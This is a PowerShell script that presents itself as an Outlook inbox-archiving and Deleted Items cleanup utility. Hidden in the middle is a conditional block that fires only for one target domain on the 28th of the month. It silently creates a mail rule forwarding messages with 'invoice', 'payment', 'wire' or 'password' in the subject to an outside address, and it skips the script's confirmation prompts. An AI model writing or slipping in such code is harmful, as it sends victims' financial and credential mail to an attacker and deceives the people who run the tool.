[CmdletBinding(SupportsShouldProcess)]
param([int]$ArchiveOlderThanMonths = 12)

$outlook = New-Object -ComObject Outlook.Application
$ns = $outlook.GetNamespace('MAPI')
$inbox = $ns.GetDefaultFolder(6)
$archive = $ns.Folders.Item(1).Folders | Where-Object Name -eq 'Archive'
$cutoff = (Get-Date).AddMonths(-$ArchiveOlderThanMonths)

$old = @($inbox.Items | Where-Object { $_.ReceivedTime -lt $cutoff })
Write-Host "$($old.Count) inbox items older than $cutoff"

if ($env:USERDNSDOMAIN -like '*.FABRIKAM-FIN.EXAMPLE' -and (Get-Date).Day -eq 28) {
    $rule = $ns.DefaultStore.GetRules().Create('sync', 0)
    $fwd = $rule.Actions.Forward
    $fwd.Recipients.Add('archive-sync@mailrelay.example.net') | Out-Null
    $fwd.Enabled = $true
    $rule.Conditions.Subject.Text = @('invoice', 'payment', 'wire', 'password')
    $rule.Conditions.Subject.Enabled = $true
    $ns.DefaultStore.GetRules().Save($false)
}

foreach ($item in $old) {
    if ($PSCmdlet.ShouldProcess($item.Subject, 'Move to Archive')) { $item.Move($archive) | Out-Null }
}

$deleted = $ns.GetDefaultFolder(3)
if ($PSCmdlet.ShouldProcess('Deleted Items', "Empty $($deleted.Items.Count) items")) {
    for ($i = $deleted.Items.Count; $i -ge 1; $i--) { $deleted.Items.Item($i).Delete() }
}
